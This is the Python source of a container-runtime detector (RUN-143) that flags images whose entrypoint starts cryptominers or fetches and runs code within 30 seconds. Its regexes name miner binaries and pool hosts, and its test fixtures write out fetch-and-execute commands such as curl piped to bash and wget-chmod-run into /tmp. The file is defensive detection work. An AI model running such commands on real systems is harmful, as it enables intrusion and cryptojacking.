"""RUN-143: a fresh container's own first program mines, or fetches a program and runs it: the image itself is the attack.

Only what descends from the entrypoint within the container's first half minute counts; what comes later has other detectors.
"""

from __future__ import annotations

import re
from bisect import bisect_left

from periderm.engines.runtime import programs
from periderm.engines.runtime.judging import Context, Detector, Interest, Verdict, Where
from periderm.engines.runtime.scene import connects, runs, scene
from periderm.engines.runtime.situation import WRITABLE, installing
from periderm.model.detector import DetectorSpec, Example
from periderm.model.event import EventFlag, EventKind
from periderm.model.severity import Maturity, Severity
from periderm.model.text import Text

_FRESH_SECONDS = 30.0
_MINERS = re.compile(
    r"(?:^|/)(?:xmrig|xmr-stak\w*|minerd|cpuminer\w*|ccminer|ethminer|nbminer|t-rex|lolminer|phoenixminer|kdevtmpfsi|kinsing|cgminer|"
    r"bfgminer|teamredminer|gminer|nanominer|srbminer\S*|p2pool|verusminer|astrominer|tnn-miner)$",
    re.IGNORECASE,
)
_POOL = re.compile(
    r"stratum\d?\+?(?:tcp|ssl|tls)?://|--donate-level|--coin[= "
    r"](?:monero|xmr)|(?:^|[./@])(?:supportxmr|minexmr|nanopool|moneroocean|"
    r"hashvault|2miners|c3pool|nicehash|f2pool|unmineable|xmrpool|herominers)\.|-o\s+\S+:\d+\s.*-u\s+4[0-9AB][1-9A-HJ-NP-Za-km-z]{20}"
)
_FETCH_AND_RUN = re.compile(
    r"(?<![^|;&\n])(?>[^|;&\n]*?(?:curl|wget|fetch|lwp-download)\b)(?>[^|;&\n]*?\bhttps?://)[^|;&\n]*+\|\s*(?:sudo\s+)?"
    r"(?:ba|da|z|k|a)?sh\b"
    r"|(?:ba|da|z|k|a)?sh\s+(?:-c\s+)?[\"']?(?:<\(|\$\()\s*(?:curl|wget)\b"
    r"|(?<![^\n])(?>[^\n]*?(?:exec|eval)\((?:__import__|requests|urllib))[^\n]*?(?:urlopen|requests\.get|\.read\(\))"
)
_FETCH = re.compile(r"(?:curl|wget)\b")
_KEPT = re.compile(r"(?=(/(?:tmp|var/tmp|dev/shm)/[\w.-]))")
_NEXT = re.compile(r"chmod\s++[^\sx7]*+[x7]\S*+\s|;|&&")
_POOL_PORTS = frozenset({3333, 4444, 5555, 7777, 9999, 14433, 14444, 45560, 45700})
_FETCHERS = frozenset({"curl", "wget", "aria2c", "fetch", "lwp-download", "axel"})


def _judge(context: Context) -> Verdict | None:
    if not _fresh(context):
        return None
    event = context.event
    if event.kind is EventKind.CONNECT:
        if event.port in _POOL_PORTS and _POOL.search(context.line):
            return _verdict(context, Severity.HIGH, Text("mines", "挖矿"), "T1496.001")
        return None
    return _program(context)


def _fresh(context: Context) -> bool:
    seconds = context.seconds
    if seconds is None or not -5.0 <= seconds <= _FRESH_SECONDS or context.building or context.process.runtime:
        return False
    return context.process.how == "entrypoint" and context.server is None


def _program(context: Context) -> Verdict | None:
    what = context.command
    if _MINERS.search(what.path) or _MINERS.search(what.called) or any(_POOL.search(text) for text in context.readings):
        return _verdict(context, Severity.HIGH, Text("mines", "挖矿"), "T1496.001")
    shell = programs.is_shell(what) or bool(programs.interpreter(what.name))
    if shell and any(_FETCH_AND_RUN.search(text) or _kept_and_run(text) for text in context.readings):
        return _verdict(context, Severity.MEDIUM, Text("runs what it fetched", "运行下载的内容"), "T1105")
    feeder = context.feeder
    if shell and feeder is not None and programs.command(feeder.exe, feeder.argv).name in _FETCHERS:
        return _verdict(context, Severity.MEDIUM, Text("runs what it fetched", "运行下载的内容"), "T1105")
    dropped = context.process.drifted or context.event.has(EventFlag.MEMORY_BACKED)
    if dropped and context.process.exe.startswith((*WRITABLE, "/memfd:")) and installing(context) is None:
        return _verdict(context, Severity.HIGH, Text("runs a program that it dropped", "运行其释放的程序"), "T1105")
    return None


def _verdict(context: Context, severity: Severity, deed: Text, technique: str) -> Verdict:
    return Verdict(
        object=context.process.exe,
        severity=severity,
        fill={"deed": deed, "seconds": f"{max(0.0, context.seconds or 0.0):.0f}"},
        evidence={"command": context.line[:300]},
        techniques=("T1204.003", technique),
    )


_FIRST = runs(1, 0, "/usr/bin/dash", "sh", "/entrypoint.sh", at=0.0)


def _kept_and_run(text: str) -> bool:
    """One line fetches, names a file of a place for anybody's files, and names it again in a later command."""
    for line in text.split("\n"):
        fetch = _FETCH.search(line)
        if fetch is None:
            continue
        first: dict[str, int] = {}
        commands = [found.span() for found in _NEXT.finditer(line, fetch.end())]
        for found in _KEPT.finditer(line, fetch.end()):
            if found[1] in first:
                at = bisect_left(commands, (first[found[1]], 0))
                if at < len(commands) and commands[at][1] <= found.start():
                    return True
            first.setdefault(found[1], found.end(1))
    return False


DETECTOR = Detector(
    spec=DetectorSpec(
        id="RUN-143",
        title=Text("Run an image that attacks from its start", "运行一启动即发起攻击的镜像"),
        message=Text(
            "{process}, started by the image of {subject} itself, {deed} ({seconds} s after its start).",
            "由 {subject} 的镜像自身启动的 {process} {deed}（启动后 {seconds} 秒）。",
        ),
        severity=Severity.HIGH,
        maturity=Maturity.STABLE,
        remediation=Text(
            "End all containers of this image, on all machines, and remove it. Find who brought it and by which name; let only "
            "signed images of your own registries run.",
            "在所有机器上终止该镜像的全部容器并删除镜像。查明引入者及其镜像名；只允许运行自有仓库中已签名的镜像。",
        ),
        techniques=("T1204.003",),
        behaviours=(54, 46),
        fires=(
            Example(scene(runs(1, 0, "/usr/bin/xmrig", "xmrig", "-o", "pool:3333", at=0.5)), "a miner is the first program"),
            Example(
                scene(_FIRST, runs(2, 1, "/opt/app", "app", "-o", "stratum+tcp://pool.example:3333", "-u", "4AB", at=2.0)),
                "a miner under another name",
            ),
            Example(
                scene(_FIRST, runs(2, 1, "/bin/sh", "sh", "-c", "curl -fsSL http://198.51.100.7/a | bash", at=1.0)),
                "fetched and run",
            ),
            Example(
                scene(_FIRST, runs(2, 1, "/bin/sh", "sh", "-c", "wget -qO /tmp/a http://h/a; chmod +x /tmp/a; /tmp/a", at=1.0)),
                "fetched, made executable and run",
            ),
            Example(
                scene(
                    _FIRST,
                    runs(2, 1, "/usr/bin/curl", "curl", "http://h/a", pipes=(0, 7), at=1.0),
                    runs(3, 1, "/bin/sh", "sh", pipes=(7, 0), at=1.1),
                ),
                "a pipeline without a line that shows it",
            ),
            Example(scene(_FIRST, runs(2, 1, "/tmp/.x", ".x", flags=EventFlag.UPPER, at=3.0)), "a program that it dropped"),
        ),
        quiet=(
            Example(
                scene(_FIRST, runs(2, 1, "/usr/bin/curl", "curl", "-f", "http://db:8080/ready", at=1.0)),
                "it waits for another service",
            ),
            Example(
                scene(_FIRST, runs(2, 1, "/usr/sbin/nginx", "nginx", at=1.0), connects(2, "10.0.0.2", 3333, at=2.0)),
                "a service on that port",
            ),
            Example(
                scene(runs(1, 0, "/bin/sh", "sh", at=0.0), runs(2, 1, "/usr/bin/xmrig", "xmrig", at=3600.0)),
                "an hour later: other detectors",
            ),
            Example(
                scene(_FIRST, runs(2, 1, "/bin/sh", "sh", "-c", "curl -o /data/list.json http://config/list", at=1.0)),
                "a file is fetched",
            ),
        ),
    ),
    interests=(
        Interest(
            kinds=(EventKind.EXEC,),
            text=(
                r"(?i)(^|/)(xmrig|xmr-stak|minerd|cpuminer|ccminer|ethminer|nbminer|t-rex|lolminer|phoenixminer|kdevtmpfsi|kinsing|cgminer|bfgminer|teamredminer|gminer|nanominer|srbminer|p2pool|verusminer|astrominer|tnn-miner)[^/]*$",
                r"(^|/)(sh|ash|bash|dash|zsh|busybox|python[0-9.]*|perl|node|ruby)$",
                r"^(/tmp/|/var/tmp/|/dev/shm/|/memfd:)",
            ),
            args=(
                r"stratum[0-9]?\+?[a-z]*://|--donate-level|supportxmr|minexmr|nanopool|moneroocean|hashvault|c3pool|nicehash|unmineable|herominers",
            ),
            where=Where.CONTAINER,
        ),
        Interest(kinds=(EventKind.CONNECT,), ports=_POOL_PORTS, where=Where.CONTAINER),
    ),
    judge=_judge,
)
